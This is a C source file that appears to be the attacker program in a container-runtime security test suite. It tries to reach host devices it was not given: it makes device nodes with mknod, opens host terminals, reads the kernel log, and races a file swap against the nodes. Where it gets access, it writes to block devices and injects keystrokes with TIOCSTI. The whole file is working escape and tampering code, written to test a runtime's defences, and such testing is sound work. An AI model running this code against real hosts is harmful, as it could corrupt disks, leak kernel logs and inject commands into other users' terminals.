/* An attacker's program for tests/security/test_devices.py: run as a
 * container's entrypoint (as root in the container, with Docker's default
 * CAP_MKNOD), it goes for host devices it was not given.
 *
 *   mknod B_MAJ B_MIN C_MAJ C_MIN PTS TEXT
 *                  makes nodes of a host block device and a host character
 *                  device (in /, /dev and /tmp) and opens them; opens the
 *                  host terminal /dev/pts/PTS by that name, and a node made
 *                  for it (/tmp/x-pts); a node of /dev/null's device must
 *                  open ("GIVEN <path> ok")
 *   planted TEXT   opens the nodes an image carried: /planted-blk and
 *                  /planted-chr (the harness put them in its rootfs)
 *   walls ROOT TEXT
 *                  as planted, at ROOT/planted-blk and ROOT/planted-chr:
 *                  the rootfs's host path, for a broken handler that hands
 *                  the kernel the raw path (tests the kernel's wall)
 *   syslog         opens /proc/kmsg and /dev/kmsg for reading ("OPENED", or
 *                  "REFUSED <path> <errno>"), and prints what /dev/kmsg
 *                  holds (reading /proc/kmsg would take records from the
 *                  host's syslog reader)
 *   race B_MAJ B_MIN C_MAJ C_MIN TEXT
 *                  a thread swaps a regular file with each node
 *                  (RENAME_EXCHANGE) while another opens the file's name
 *
 * On every descriptor of a block device it reads the start ("READ ..."),
 * asks a loop device its backing file ("LOOPFILE ...") and writes TEXT at
 * 8 KiB; on a character device it prints the last lines it reads
 * ("READ ...", the kernel log's for /dev/kmsg), writes TEXT ("WROTE") and
 * types it with TIOCSTI ("TYPED"). It prints "OPENED <path> <how>" for each
 * open that gave it a device, "REFUSED <path> <errno>" for the others.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/loop.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static const char *text = "";

static void use(int fd, const char *path)
{
    struct stat st;
    if (fstat(fd, &st) < 0 || !(S_ISBLK(st.st_mode) || S_ISCHR(st.st_mode)))
        return;
    printf("OPENED %s %u:%u\n", path, major(st.st_rdev), minor(st.st_rdev));
    if (S_ISBLK(st.st_mode)) {
        char buf[65] = {0};
        if (pread(fd, buf, 64, 0) > 0)
            printf("READ %s\n", buf);
        struct loop_info64 info;
        if (ioctl(fd, LOOP_GET_STATUS64, &info) == 0)
            printf("LOOPFILE %s\n", (char *)info.lo_file_name);
        if (pwrite(fd, text, strlen(text), 8192) > 0)
            printf("WROTE %s\n", path);
        fsync(fd);
    } else {
        char line[8][512];
        int n = 0;
        int flags = fcntl(fd, F_GETFL);
        fcntl(fd, F_SETFL, flags | O_NONBLOCK);
        for (int i = 0; i < 100000; i++) {
            ssize_t got = read(fd, line[n % 8], sizeof line[0] - 1);
            if (got < 0 && errno == EPIPE)
                continue;          /* kmsg: a record overwritten meanwhile */
            if (got <= 0)
                break;
            line[n++ % 8][got] = 0;
        }
        for (int i = n > 8 ? n - 8 : 0; i < n; i++)
            printf("READ %s\n", line[i % 8]);
        fcntl(fd, F_SETFL, flags);
        char rec[256];                     /* a line: a whole kernel log record */
        int len = snprintf(rec, sizeof rec, "%s\n", text);
        if (write(fd, rec, len) > 0)
            printf("WROTE %s\n", path);
        int typed = 1;
        for (const char *p = text; *p && typed; p++)
            typed = ioctl(fd, TIOCSTI, p) == 0;
        if (typed)
            printf("TYPED %s\n", path);
    }
    fflush(stdout);
}

static void try_open(const char *path)
{
    int fd = open(path, O_RDWR | O_NOCTTY);
    if (fd < 0)
        fd = open(path, O_RDONLY | O_NOCTTY);
    if (fd < 0) {
        printf("REFUSED %s %s\n", path, strerrorname_np(errno));
        return;
    }
    use(fd, path);
    close(fd);
}

static void make(const char *path, mode_t kind, unsigned maj, unsigned min)
{
    if (mknod(path, kind | 0666, makedev(maj, min)) < 0)
        printf("MKNOD %s %s\n", path, strerrorname_np(errno));
}

/* A node of a device the container was given (/dev/null's 1:3) opens, as
 * under Docker's device cgroup: "GIVEN <path> ok" once written to. */
static void given(const char *path)
{
    make(path, S_IFCHR, 1, 3);
    int fd = open(path, O_WRONLY | O_NOCTTY);
    struct stat st;
    if (fd >= 0 && fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3) &&
        write(fd, "x", 1) == 1)
        printf("GIVEN %s ok\n", path);
    else
        printf("GIVEN %s %s\n", path, strerrorname_np(errno));
    if (fd >= 0)
        close(fd);
}

static void read_log(const char *path, int read_it)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (fd < 0) {
        printf("REFUSED %s %s\n", path, strerrorname_np(errno));
        return;
    }
    printf("OPENED %s\n", path);
    char rec[8192];
    for (int i = 0; read_it && i < 100000; i++) {
        ssize_t got = read(fd, rec, sizeof rec - 1);
        if (got < 0 && errno == EPIPE)
            continue;
        if (got <= 0)
            break;
        rec[got] = 0;
        printf("READ %s\n", rec);
    }
    close(fd);
}

static volatile int done;
static const char *swap_a, *swap_b;

static void *swapper(void *arg)
{
    (void)arg;
    while (!done)
        renameat2(AT_FDCWD, swap_a, AT_FDCWD, swap_b, RENAME_EXCHANGE);
    return NULL;
}

static void race(const char *node, const char *file)
{
    int fd = open(file, O_CREAT | O_WRONLY, 0666);
    if (fd >= 0)
        close(fd);
    pthread_t t;
    swap_a = node;
    swap_b = file;
    done = 0;
    pthread_create(&t, NULL, swapper, NULL);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    int got = 0;
    for (int i = 0; i < 200000 && got < 3; i++) {
        fd = open(file, O_RDWR | O_NOCTTY);
        if (fd >= 0) {
            struct stat st;
            if (fstat(fd, &st) == 0 && (S_ISBLK(st.st_mode) || S_ISCHR(st.st_mode))) {
                use(fd, file);
                got++;
            }
            close(fd);
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= 3)
            break;
    }
    done = 1;
    pthread_join(t, NULL);
    printf("RACED %s\n", node);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 8 && !strcmp(argv[1], "mknod")) {
        unsigned bmaj = atoi(argv[2]), bmin = atoi(argv[3]);
        unsigned cmaj = atoi(argv[4]), cmin = atoi(argv[5]);
        text = argv[7];
        const char *dirs[] = {"", "/dev", "/tmp"};
        for (int i = 0; i < 3; i++) {
            char blk[64], chr[64];
            snprintf(blk, sizeof blk, "%s/x-blk", dirs[i]);
            snprintf(chr, sizeof chr, "%s/x-chr", dirs[i]);
            make(blk, S_IFBLK, bmaj, bmin);
            make(chr, S_IFCHR, cmaj, cmin);
            try_open(blk);
            try_open(chr);
        }
        char pts[64];
        snprintf(pts, sizeof pts, "/dev/pts/%s", argv[6]);
        try_open(pts);
        unsigned n = atoi(argv[6]);          /* its node, made: pts majors 136-143 */
        make("/tmp/x-pts", S_IFCHR, 136 + n / 256, n % 256);
        try_open("/tmp/x-pts");
        given("/tmp/x-null");
    } else if (argc == 3 && !strcmp(argv[1], "planted")) {
        text = argv[2];
        try_open("/planted-blk");
        try_open("/planted-chr");
    } else if (argc == 4 && !strcmp(argv[1], "walls")) {
        char blk[512], chr[512];
        text = argv[3];
        snprintf(blk, sizeof blk, "%s/planted-blk", argv[2]);
        snprintf(chr, sizeof chr, "%s/planted-chr", argv[2]);
        try_open(blk);
        try_open(chr);
    } else if (argc == 2 && !strcmp(argv[1], "syslog")) {
        read_log("/proc/kmsg", 0);
        read_log("/dev/kmsg", 1);
    } else if (argc == 7 && !strcmp(argv[1], "race")) {
        text = argv[6];
        mkdir("/r", 0777);
        make("/r/blk", S_IFBLK, atoi(argv[2]), atoi(argv[3]));
        make("/r/chr", S_IFCHR, atoi(argv[4]), atoi(argv[5]));
        race("/r/blk", "/r/file");
        race("/r/chr", "/r/file2");
    } else {
        fprintf(stderr, "usage: see the comment at the top of dev_attack.c\n");
        return 2;
    }
    return 0;
}
